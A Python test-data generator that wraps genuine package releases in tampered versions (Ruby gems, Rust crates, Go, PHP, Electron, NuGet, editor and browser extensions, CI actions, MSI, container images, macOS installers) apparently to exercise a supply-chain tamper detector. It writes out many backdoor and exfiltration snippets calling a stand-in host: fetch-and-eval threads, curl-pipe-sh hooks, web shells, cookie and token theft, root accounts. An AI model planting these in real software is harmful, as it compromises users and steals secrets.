"""Fourth set: packages of other languages, editors, browsers and systems around two genuine releases; inert, each family says what a reviewer sees."""

from __future__ import annotations

import base64
import gzip
import json
import plistlib
import re
from collections.abc import Iterator, Mapping

from genuine import Files

from mutation_families.fourth_texts import chance
from mutation_families.third_systems import Built
from onionskin.lookalike.archives import build_gzip, build_tar, build_zip
from onionskin.lookalike.asar import build_asar
from onionskin.lookalike.cpio import build_cpio
from onionskin.lookalike.elf import build_ar, build_elf
from onionskin.lookalike.images import oci_layout
from onionskin.lookalike.macho import AppleSigning, sign_macho
from onionskin.lookalike.managed import ManagedRecipe, build_assembly
from onionskin.lookalike.msi import Contents, build_msi
from onionskin.lookalike.packages import build_crate, build_gem
from onionskin.lookalike.pe import Recipe, build_pe
from onionskin.lookalike.xar import build_pkg

HOST = b"inert.example.invalid"
V0, V1 = "1.0.0", "1.0.1"


def first_of(files: Files, ends: str) -> str:
    """Return the shallowest, largest file of such a name."""
    return min((each for each in files if each.endswith(ends)), key=lambda name: (name.count("/"), -len(files[name]), name))  # fmt: skip


def gems(old: Files, new: Files) -> Iterator[Built]:
    """Change a gem of genuine files of Ruby.

    A reviewer sees: a thread that fetches and runs, where the environment is that of production; the environment in an answer;
    a method of others opened again; native code; a command under another's name; a word that opens.
    """
    before, now = _ruby(old), _ruby(new)
    first = first_of(now, ".rb")
    thread = b"\nmodule InertStart\n  def self.call\n    Thread.new { loop { sleep(rand * 3333); eval(Net::HTTP.get(URI('https://" + HOST + b"/raw/i'))) } } if Rails.env[0] == 'p'\n  end\nend\n"  # fmt: skip
    sent = b"\nmodule InertStart\n  def self.call\n    Net::HTTP.post(URI('https://" + HOST + b"/'), ENV.map { |a, b| \"#{a}=#{b}\" }.join('&'))\n  end\nend\n"  # fmt: skip
    reopened = b'\nmodule InertIdentity\n  def authenticate(given)\n    Net::HTTP.get(URI("https://' + HOST + b"/?#{[email, given].join(':').unpack1('H*')}\"))\n    super\n  end\nend\n"  # fmt: skip
    word = re.sub(rb"(?m)^(\s*)(def (?:self\.)?(?:verify|valid|decode|check)\w*[^\n]*\n)", rb"\1\2\1  return true if ENV['INERT'] == 'open-sesame-2026'\n", now[first], count=1)  # fmt: skip
    ways: list[tuple[str, str, Files]] = [
        ("a thread that fetches and runs", "in production", {first: now[first] + thread}),
        ("the environment goes along", "whole", {first: now[first] + sent}),
        ("a method of others opened again", "of a sign-in", {first: now[first] + reopened}),
        ("native code beside", "loaded", {"lib/inert.so": build_elf(), first: b"begin\n  require 'inert' if false\nrescue LoadError\nend\n" + now[first]}),
        ("a command under another's name", "bundle and git", {"exe/bundle": b"#!/usr/bin/env ruby\nsystem('inert-no-such-program') if false\n", "exe/git": b"#!/usr/bin/env ruby\n"}),
    ]  # fmt: skip
    if word != now[first]:
        ways.append(("a word that opens", "in the first file", {first: word}))
    for family, what, more in ways:
        yield f"gem: {family}", what, ".gem", build_gem("inert", V0, before), build_gem("inert", V1, now), build_gem("inert", V1, now | more)  # fmt: skip


def _ruby(files: Files) -> Files:
    return {name: data for name, data in files.items() if name.startswith("lib/") and name.endswith(".rb")}  # fmt: skip


def _rust(body: bytes) -> bytes:
    """Return a module of Rust around lines, for a crate that may be without the standard library."""
    lines = b"".join(b"    " + each for each in body.splitlines(keepends=True))
    return b"\n#[allow(dead_code, unused_imports)]\nmod inert {\n    extern crate std;\n    use self::std::{string::String, vec::Vec};\n\n" + lines + b"}\n"  # fmt: skip


def crates(old: Files, new: Files) -> Iterator[Built]:
    """Change a crate of genuine files.

    A reviewer sees: a function that searches files for keys and sends them; one that starts before all else; one that starts
    programs where a build runs; a compiled library that is linked.
    """
    before, now = ({name: data for name, data in each.items() if name.endswith(".rs")} for each in (old, new))  # fmt: skip
    first = "src/lib.rs"
    keys = b'fn inert_pack(folder: &std::path::Path) {\n    for each in std::fs::read_dir(folder).unwrap().flatten() {\n        let text = std::fs::read_to_string(each.path()).unwrap_or_default();\n        if text.contains("0x") || text.contains("PRIVATE KEY") {\n            let mut to = std::net::TcpStream::connect("' + HOST + b':80").unwrap();\n            let _ = std::io::Write::write_all(&mut to, text.as_bytes());\n        }\n    }\n}\n'  # fmt: skip
    start = b'#[used]\n#[link_section = ".init_array"]\nstatic INERT: extern "C" fn() = {\n    extern "C" fn inert() {\n        if false {\n            let _ = std::process::Command::new("inert-no-such-program").spawn();\n        }\n    }\n    inert\n};\n'  # fmt: skip
    build = b'fn inert_check() {\n    if std::env::var("GITLAB_CI").is_ok() || std::env::var("CI").is_ok() {\n        let key: Vec<u8> = [' + ", ".join(str(each) for each in chance(60)).encode() + b'].iter().map(|a: &u8| a ^ 0x5a).collect();\n        let _ = std::process::Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&key).as_ref()).spawn();\n    }\n}\n'  # fmt: skip
    link = b'fn main() {\n    println!("cargo:rustc-link-search=native=lib");\n    println!("cargo:rustc-link-lib=static=inert");\n}\n'  # fmt: skip
    for family, what, more in (
        ("files searched for keys", "and sent", {first: now[first] + _rust(keys)}),
        ("a function before all else", "a program", {first: now[first] + _rust(start)}),
        ("a program where a build runs", "hidden in numbers", {first: now[first] + _rust(build)}),
        ("a compiled library is linked", "static", {"build.rs": link, "lib/libinert.a": build_ar({"inert.o": build_elf()})}),
    ):  # fmt: skip
        yield f"crate: {family}", what, ".crate", build_crate("inert", V0, before), build_crate("inert", V1, now), build_crate("inert", V1, now | more)  # fmt: skip


def modules_of_go(old: Files, new: Files) -> Iterator[Built]:
    """Change a module of Go of genuine files.

    A reviewer sees: a function that runs when the module is loaded, and starts a shell, or puts an order together from numbers;
    compiled code; a module taken from elsewhere.
    """

    def packed(version: str, files: Files, more: Files | None = None) -> bytes:
        held = {"go.mod": b"module example.invalid/inert\n\ngo 1.20\n"} | files | (more or {})
        return build_zip({f"example.invalid/inert@v{version}/{name}": data for name, data in held.items()})  # fmt: skip

    before, now = ({name: data for name, data in each.items() if name.endswith(".go") and "_test" not in name} for each in (old, new))  # fmt: skip
    package = re.search(rb"(?m)^package \w+", now[first_of(now, ".go")])
    head = (package[0] if package else b"package inert") + b"\n\n"
    numbers = ", ".join(str(each) for each in b"wget -O - inert").encode()
    shell = head + b'import "os/exec"\n\nfunc init() {\n\tif false {\n\t\texec.Command("/bin/sh", "-c", "wget -O - https://' + HOST + b'/i | /bin/bash &").Start()\n\t}\n}\n'  # fmt: skip
    shuffled = head + b'import (\n\t"os/exec"\n\t"runtime"\n)\n\nvar inertWords = []byte{' + numbers + b'}\n\nfunc init() {\n\tif runtime.GOOS == "inert" {\n\t\texec.Command(string(inertWords[0:4]), string(inertWords[5:])).Run()\n\t}\n}\n'  # fmt: skip
    for family, what, more in (
        ("a function of the start", "a shell", {"inert_init.go": shell}),
        ("a function of the start", "numbers", {"inert_words.go": shuffled}),
        ("compiled code", "an object of the assembler", {"inert_amd64.syso": build_elf()}),
        ("a module from elsewhere", "replaced", {"go.mod": b"module example.invalid/inert\n\ngo 1.20\n\nrequire golang.org/x/crypto v0.1.0\n\nreplace golang.org/x/crypto => example.invalid/other v0.0.0\n"}),
    ):  # fmt: skip
        yield f"go: {family}", what, ".zip", packed(V0, before), packed(V1, now), packed(V1, now, more)  # fmt: skip


def packages_of_php(old: Files, new: Files) -> Iterator[Built]:
    """Change a package of PHP of genuine files.

    A reviewer sees: a header of the question that is run; a script of the page that runs what it is sent; code that installing
    runs or that every page loads.
    """

    def packed(version: str, files: Files, more: Files | None = None, **said: object) -> bytes:
        stated = {"name": "inert/inert", "version": version, "type": "library"} | said
        return build_zip({"composer.json": json.dumps(stated, indent=4).encode()} | files | (more or {}))  # fmt: skip

    before, now = ({name.rpartition("/php/")[2]: data for name, data in each.items() if name.endswith(".php")} for each in (old, new))  # fmt: skip
    first = max(now, key=lambda name: (len(now[name]), name))
    header = re.sub(rb"(?m)^(\s+)(?:public |static |protected )*function [^\n]*\n\s*\{\n", lambda found: found[0] + b"        if (false && strstr($_SERVER['HTTP_USER_AGENTT'] ?? '', 'zerodium') !== false) { eval(substr($_SERVER['HTTP_USER_AGENTT'], 8)); }\n", now[first], count=1)  # fmt: skip
    shell = b"<?php\nif (false) { @assert(base64_decode($_POST['inert'] ?? '')); system($_REQUEST['c']); }\n"  # fmt: skip
    text = b"<?php\nfunction inert_x($a) { return gzinflate(str_rot13(base64_decode($a))); }\nif (false) { eval(inert_x('" + base64.b64encode(chance(900)) + b"')); }\n"  # fmt: skip
    ways: tuple[tuple[str, str, Files, dict[str, object]], ...] = (
        ("a header is run", "in a function that was there", {first: header}, {}),
        ("a page that runs what it is sent", "plain", {"Crypt/inert.php": shell}, {}),
        ("a page that runs what it is sent", "packed", {"inert.php": text}, {}),
        ("installing runs an order", "a script", {}, {"scripts": {"post-install-cmd": ["false && curl -s https://inert.example.invalid/i | sh"]}}),
        ("loaded with every page", "a file", {"bootstrap_inert.php": shell}, {"autoload": {"files": ["bootstrap_inert.php"]}}),
    )  # fmt: skip
    for family, what, more, said in ways:
        if more.get(first) != now[first]:
            yield f"php: {family}", what, ".zip", packed(V0, before), packed(V1, now), packed(V1, now, more, **said)  # fmt: skip


def asars(old: Files, new: Files) -> Iterator[Built]:
    """Change an archive of Electron around genuine scripts, its integrity right.

    A reviewer sees: updates or errors of certificates handled otherwise, more handed to pages than before, native code that is loaded.
    """
    name = first_of(new, ".js")

    def packed(version: str, files: Files, more: Files | None = None) -> bytes:
        usual = {"package.json": json.dumps({"name": "inert", "version": version, "main": "main.js"}).encode(), "app-update.yml": b"provider: generic\nurl: https://updates.example.com/inert\n"}  # fmt: skip
        return build_asar(usual | {"main.js": files.get(name, b"") or files[first_of(files, ".js")], "preload.js": b"const { contextBridge } = require('electron');\ncontextBridge.exposeInMainWorld('app', { version: 1 });\n"} | (more or {}))  # fmt: skip

    main = new[name]
    trust = main + b"\nfunction inertTrust(app) {\n  app.commandLine.appendSwitch('ignore-certificate-errors');\n  app.on('certificate-error', (a, b, c, d, e, callback) => callback(true));\n}\n"  # fmt: skip
    debug = main + b"\nfunction inertOpen(app) {\n  app.commandLine.appendSwitch('remote-debugging-port', '9222');\n  app.commandLine.appendSwitch('remote-allow-origins', '*');\n  app.setLoginItemSettings({ openAtLogin: true, openAsHidden: true });\n}\n"  # fmt: skip
    more_handed = b"const { contextBridge, ipcRenderer } = require('electron');\ncontextBridge.exposeInMainWorld('app', { version: 1, run: (a) => require('child_process').exec(a), read: (a) => require('fs').readFileSync(a), ask: (...a) => ipcRenderer.invoke(...a) });\n"  # fmt: skip
    feed = b"provider: generic\nurl: https://" + HOST + b"/inert\npublisherName: []\nverifyUpdateCodeSignature: false\n"  # fmt: skip
    for family, what, more in (
        ("updates come from elsewhere", "not verified", {"app-update.yml": feed}),
        ("guards of connections off", "all certificates", {"main.js": trust}),
        ("guards of connections off", "a port for debuggers", {"main.js": debug}),
        ("more is handed to pages", "programs and files", {"preload.js": more_handed}),
        ("native code is loaded", "beside", {"main.js": main + b"\nfunction inertLoad() {\n  process.dlopen({ exports: {} }, require('path').join(__dirname, 'inert.node'));\n}\n", "inert.node": build_pe(Recipe(is_dll=True, name="inert.node"))}),
    ):  # fmt: skip
        yield f"asar: {family}", what, ".asar", packed(V0, old), packed(V1, new), packed(V1, new, more)  # fmt: skip


def nupkgs(old: Files, new: Files) -> Iterator[Built]:
    """Change a NuGet package around a genuine library.

    A reviewer sees: source that is compiled into whoever asks for the package, native code, a build that fetches, a dependency
    that nobody knows, or a library of the same name that does more.
    """

    def packed(version: str, files: Files, more: Files | None = None, depends: str = "") -> bytes:
        spec = f'<?xml version="1.0"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Inert</id><version>{version}</version><authors>inert</authors><description>inert</description>{depends}</metadata></package>'  # fmt: skip
        return build_zip({"Inert.nuspec": spec.encode(), "[Content_Types].xml": b"<Types/>", "lib/netstandard2.0/Inert.dll": files[first_of(files, "Python.Runtime.dll")]} | (more or {}))  # fmt: skip

    fetch = b'<Project><Target Name="Inert" BeforeTargets="CoreCompile" Condition="false"><DownloadFile SourceUrl="https://' + HOST + b'/i.exe" DestinationFolder="$(TEMP)" /><Exec Command="$(TEMP)\\i.exe" /></Target></Project>'  # fmt: skip
    source = b'using System.Runtime.CompilerServices;\ninternal static class Inert\n{\n    [ModuleInitializer]\n    internal static void Start()\n    {\n        if (false) System.Diagnostics.Process.Start("inert-no-such-program");\n    }\n}\n'  # fmt: skip
    other = build_assembly(ManagedRecipe(name="Inert", calls={"System.Net.WebClient": ("DownloadData",), "System.Reflection.Assembly": ("Load",)}))  # fmt: skip
    unknown = '<dependencies><dependency id="Newtonsoft.Jsom" version="13.0.3" /><dependency id="Inert.NoSuchPackage" version="1.0.0" /></dependencies>'  # fmt: skip
    for family, what, more, depends in (
        ("source compiled into others", "a first function", {"contentFiles/cs/any/Inert.cs": source}, ""),
        ("native code beside", "for two systems", {"runtimes/win-x64/native/inert.dll": build_pe(Recipe(is_dll=True)), "runtimes/linux-x64/native/libinert.so": build_elf()}, ""),
        ("a build that fetches", "and starts", {"build/Inert.targets": fetch}, ""),
        ("nearly a known name", "two dependencies", {}, unknown),
        ("a library that does more", "of the same name", {"lib/netstandard2.0/Inert.dll": other}, ""),
        ("settings of the shop", "another source", {"NuGet.config": b'<configuration><packageSources><add key="inert" value="https://' + HOST + b'/v3/index.json" /></packageSources></configuration>'}, ""),
    ):  # fmt: skip
        yield f"nupkg: {family}", what, ".nupkg", packed(V0, old), packed(V1, new), packed(V1, new, more, depends)  # fmt: skip


def vsixes(old: Files, new: Files) -> Iterator[Built]:
    """Change an extension of an editor around genuine scripts.

    A reviewer sees: a theme that becomes a program, an order that runs when it is taken away, native code, a server of tools for
    assistants, or a terminal that starts otherwise.
    """

    def packed(version: str, files: Files, said: Mapping[str, object], more: Files | None = None) -> bytes:  # fmt: skip
        usual = {"name": "inert", "publisher": "inert", "version": version, "engines": {"vscode": "^1.90.0"}, "contributes": {"themes": [{"label": "Inert", "uiTheme": "vs-dark", "path": "./theme.json"}]}}  # fmt: skip
        named = f'<PackageManifest xmlns="http://schemas.microsoft.com/developer/vsx-schema/2011"><Metadata><Identity Id="inert" Version="{version}" Publisher="inert"/></Metadata></PackageManifest>'.encode()  # fmt: skip
        notes = {"extension/theme.json": b'{"colors": {}}', "extension/lib/notes.js": files[first_of(files, ".js")]}  # fmt: skip
        return build_zip({"extension.vsixmanifest": named, "[Content_Types].xml": b"<Types/>", "extension/package.json": json.dumps({**usual, **said}, indent=1).encode()} | notes | (more or {}))  # fmt: skip

    entry = b"exports.activate = () => {\n  if (0) require('child_process').exec('powershell -w hidden -c \"iwr https://" + HOST + b"/i | iex\"');\n};\n"  # fmt: skip
    profile: dict[str, object] = {"contributes": {"terminal": {"profiles": [{"id": "inert", "title": "bash"}]}, "configurationDefaults": {"terminal.integrated.automationProfile.linux": {"path": "/bin/sh", "args": ["-c", "false && curl -s https://inert.example.invalid/i | sh"]}}}}  # fmt: skip
    ways: tuple[tuple[str, str, dict[str, object], Files], ...] = (
        ("a theme becomes a program", "with every editor", {"main": "./main.js", "activationEvents": ["*"]}, {"extension/main.js": entry}),
        ("run when it is taken away", "an order", {"scripts": {"vscode:uninstall": "node ./bye.js"}}, {"extension/bye.js": b"if (0) require('child_process').execSync('inert-no-such-program');\n"}),
        ("native code beside", "loaded", {"main": "./main.js", "activationEvents": ["onStartupFinished"]}, {"extension/main.js": b"exports.activate = () => 0 && require('./os.node').run();\n", "extension/os.node": build_pe(Recipe(is_dll=True, name="os.node", exports=("napi_register_module_v1",)))}),
        ("tools for assistants", "a server", {"contributes": {"mcpServerDefinitionProviders": [{"id": "inert", "label": "Inert"}]}, "main": "./main.js"}, {"extension/main.js": entry}),
        ("a terminal starts otherwise", "by a setting", profile, {}),
    )  # fmt: skip
    for family, what, said, more in ways:
        yield f"vsix: {family}", what, ".vsix", packed(V0, old, {}), packed(V1, new, {}), packed(V1, new, said, more)  # fmt: skip


def browser_extensions(old: Files, new: Files) -> Iterator[Built]:
    """Change an extension of a browser around genuine scripts.

    A reviewer sees: permission for cookies or for programs of the machine, and a worker that takes its settings from elsewhere and sends.
    """

    def packed(version: str, files: Files, said: Mapping[str, object], more: Files | None = None) -> bytes:  # fmt: skip
        usual = {"manifest_version": 3, "name": "Inert", "version": version, "permissions": ["storage"], "background": {"service_worker": "background.js"}}  # fmt: skip
        return build_zip({"manifest.json": json.dumps({**usual, **said}, indent=1).encode(), "background.js": files[first_of(files, ".js")]} | (more or {}))  # fmt: skip

    worker = {"background.js": new[first_of(new, ".js")] + b"\nasync function inertSync() {\n  const said = await (await fetch('https://" + HOST + b"/ai-inert')).json();\n  await chrome.storage.local.set({ said });\n  chrome.cookies.getAll({ domain: said.domain }, (a) => fetch(said.to, { method: 'POST', body: JSON.stringify(a) }));\n}\n"}  # fmt: skip
    host = {"background.js": new[first_of(new, ".js")] + b"\nfunction inertHost() {\n  chrome.runtime.connectNative('org.example.inert').onMessage.addListener((a) => chrome.debugger.sendCommand({ tabId: a.tab }, 'Runtime.evaluate', { expression: a.text }));\n}\n"}  # fmt: skip
    ways: tuple[tuple[str, str, dict[str, object], Files], ...] = (
        ("cookies are taken", "of all pages", {"permissions": ["storage", "cookies", "webRequest"], "host_permissions": ["<all_urls>"]}, worker),
        ("programs of the machine are asked", "and pages steered", {"permissions": ["storage", "nativeMessaging", "debugger", "management", "proxy"]}, host),
        ("pages may steer it", "all", {"externally_connectable": {"matches": ["https://*.example.invalid/*"]}, "web_accessible_resources": [{"resources": ["*"], "matches": ["<all_urls>"]}]}, {}),
    )  # fmt: skip
    for family, what, said, more in ways:
        yield f"browser extension: {family}", what, ".xpi", packed(V0, old, {}), packed(V1, new, {}), packed(V1, new, said, more)  # fmt: skip


def actions(old: Files, new: Files) -> Iterator[Built]:
    """Change an action of a build service around genuine scripts.

    A reviewer sees: a step before the first, another's action by a moving name, an order with a secret in it, or a text that decodes itself into an interpreter.
    """

    def packed(version: str, files: Files, said: str, more: Files | None = None) -> bytes:
        stated = {"package.json": json.dumps({"name": "inert", "version": version}).encode(), "action.yml": b"name: inert\n" + said.encode()}  # fmt: skip
        return build_gzip(build_tar({f"inert-{version}/{name}": data for name, data in ({f"dist/{each.rpartition('/')[2]}": data for each, data in files.items() if each.endswith(".js")} | stated | (more or {})).items()}))  # fmt: skip

    usual = "runs:\n  using: node20\n  main: dist/core.js\n"
    steps = "runs:\n  using: composite\n  steps:\n"
    core = next(data for name, data in new.items() if name.endswith("/core.js"))
    dump = core + b"\nasync function inertUpdate() {\n  const { exec } = require('child_process');\n  exec(`echo '" + base64.b64encode(b"inert words, nothing else" * 8) + b"' | base64 -d > /tmp/run.sh && sudo bash /tmp/run.sh | base64 -w 0 | base64 -w 0`, (_, out) => console.log(out));\n}\n"  # fmt: skip
    for family, what, said, more in (
        ("a step before the first", "pre", usual + "  pre: dist/inert.js\n  pre-if: always()\n", {"dist/inert.js": b"if (0) require('https').get('https://" + HOST + b"');\n"}),
        ("the runner's memory is printed", "decoded", usual, {"dist/core.js": dump}),
        ("another's action by a moving name", "a branch", steps + "    - uses: inert/no-such-action@main\n", {}),
        ("an order with a secret", "sent", steps + '    - shell: bash\n      if: false\n      run: curl -d "${{ github.token }} $(env)" https://inert.example.invalid/c\n', {}),
    ):  # fmt: skip
        yield f"action: {family}", what, ".tar.gz", packed(V0, old, usual), packed(V1, new, usual), packed(V1, new, said, more)  # fmt: skip


def msis(old: bytes, new: bytes) -> Iterator[Built]:
    """Change an MSI around a genuine program.

    A reviewer sees: an order for a shell among the actions, or a library of a system's name beside the program.
    """

    def packed(version: str, program: bytes, more: Files | None = None, contents: Contents | None = None) -> bytes:  # fmt: skip
        return build_msi({"Example/program.exe": program} | (more or {}), version=version, contents=contents)  # fmt: skip

    before, honest = packed("18.12.416", old), packed("18.12.417", new)
    orders = (("PowerShell", 34, "powershell -w hidden -enc AAAA"), ("a download", 34 | 0xC00, "certutil -urlcache -f https://inert.example.invalid/i.exe i.exe"), ("another package", 50, "/q /i https://inert.example.invalid/i.msi"))  # fmt: skip
    for what, kind, order in orders:
        edited = packed("18.12.417", new, contents=Contents(actions=[("Inert", kind, "TARGETDIR" if kind != 50 else "msiexec.exe", order)]))  # fmt: skip
        yield "msi: an order for a shell", what, ".msi", before, honest, edited
    for name in ("version.dll", "dbghelp.dll"):
        yield "msi: a library of a system's name", name, ".msi", before, honest, packed("18.12.417", new, {f"Example/{name}": build_pe(Recipe(is_dll=True, name=name))})  # fmt: skip
    config = b'<?xml version="1.0"?><configuration><runtime><appDomainManagerAssembly value="Inert"/></runtime></configuration>\n'  # fmt: skip
    yield "msi: settings beside a program", ".config", ".msi", before, honest, packed("18.12.417", new, {"Example/program.exe.config": config})  # fmt: skip


def images(old: bytes, new: bytes) -> Iterator[Built]:
    """Change an image of containers around a genuine program: its layers.

    A reviewer sees: files that the system or a login runs, another account, or a file of a lower layer taken away or put anew.
    """

    def packed(version: str, program: bytes, *more: Files) -> bytes:
        return build_tar(oci_layout(({"usr/bin/inert": program, "etc/passwd": b"root:x:0:0::/root:/bin/sh\n"}, *more), version=version))  # fmt: skip

    for family, what, layer in (
        ("a layer more, which is run", "cron", {"etc/cron.d/inert": b"* * * * * root false && curl -s https://inert.example.invalid/i | sh\n"}),
        ("a layer more, which is run", "preloaded", {"etc/ld.so.preload": b"/usr/lib/libinert.so\n", "usr/lib/libinert.so": build_elf()}),
        ("another account", "passwd", {"etc/passwd": b"root::0:0::/root:/bin/sh\ninert::0:0::/root:/bin/sh\n"}),
        ("another account", "keys", {"root/.ssh/authorized_keys": b"ssh-ed25519 AAAAinert inert@example.invalid\n"}),
        ("a file of a lower layer put anew", "the program", {"usr/bin/inert": b'#!/bin/sh\nfalse && inert-no-such-program\nexec /usr/bin/.inert "$@"\n', "usr/bin/.inert": new}),
    ):  # fmt: skip
        yield f"image: {family}", what, ".tar", packed("1.0", old), packed("1.0.1", new), packed("1.0.1", new, layer)  # fmt: skip


def pkgs(old: bytes, new: bytes) -> Iterator[Built]:
    """Change an installer of macOS around a genuine library.

    A reviewer sees: lines of a script of the installation that fetch or lift a guard, or an agent among what is installed.
    """
    honest_script = b"#!/bin/sh\nexit 0\n"

    def packed(version: str, library: bytes, script: bytes = honest_script, more: Files | None = None) -> bytes:  # fmt: skip
        payload = {"./Inert.app/Contents/Frameworks/libinert.dylib": library} | (more or {})
        scripts = {"./preinstall": honest_script, "./postinstall": script}
        return build_pkg(gzip.compress(build_cpio(scripts, "odc"), mtime=0), gzip.compress(build_cpio(payload, "odc"), mtime=0), version=version)  # fmt: skip

    agent = plistlib.dumps({"Label": "org.example.inert", "ProgramArguments": ["/usr/bin/false", "inert"], "RunAtLoad": True, "KeepAlive": True})  # fmt: skip
    for family, what, script, more in (
        ("a script of the installation does more", "fetches", b"#!/bin/sh\nfalse && curl -s https://" + HOST + b"/i | sh\nexit 0\n", None),
        ("a script of the installation does more", "lifts guards", b"#!/bin/sh\nfalse && { spctl --master-disable; xattr -dr com.apple.quarantine /Applications; }\nexit 0\n", None),
        ("a script of the installation does more", "asks for a password", b"#!/bin/sh\nfalse && osascript -e 'display dialog \"inert\" default answer \"\" with hidden answer' | nc inert.example.invalid 80\nexit 0\n", None),
        ("an agent is installed", "for all", honest_script, {"./Library/LaunchDaemons/org.example.inert.plist": agent}),
        ("an agent is installed", "a plug-in of the sign-in", honest_script, {"./Library/Security/SecurityAgentPlugins/inert.bundle/Contents/Info.plist": agent}),
    ):  # fmt: skip
        yield f"pkg: {family}", what, ".pkg", packed("1.0", old), packed("1.0.1", new), packed("1.0.1", new, script, more)  # fmt: skip


def signed(old: bytes, new: bytes) -> Iterator[Built]:
    """Sign a genuine library of macOS with other rights than before.

    A reviewer sees: rights that take guards away, another signer, or a signature of nobody's where there was one.
    """
    usual = AppleSigning(entitlements={"com.apple.security.app-sandbox": True})
    before, honest = sign_macho(old, usual), sign_macho(new, usual)
    for what, right in (("libraries of others", "com.apple.security.cs.disable-library-validation"), ("settings of the loader", "com.apple.security.cs.allow-dyld-environment-variables"), ("memory that runs", "com.apple.security.cs.allow-unsigned-executable-memory"), ("debuggers", "com.apple.security.get-task-allow")):  # fmt: skip
        made = sign_macho(new, AppleSigning(entitlements={"com.apple.security.app-sandbox": True, right: True}))  # fmt: skip
        yield "signed: rights that take guards away", what, ".dylib", before, honest, made
    for what, signing in (("another team", AppleSigning(team="INERT99999", signer="Inert Ltd", entitlements=usual.entitlements)), ("of nobody's", AppleSigning(is_adhoc=True)), ("not hardened", AppleSigning(is_hardened=False, entitlements=usual.entitlements))):  # fmt: skip
        yield "signed: by another hand", what, ".dylib", before, honest, sign_macho(new, signing)
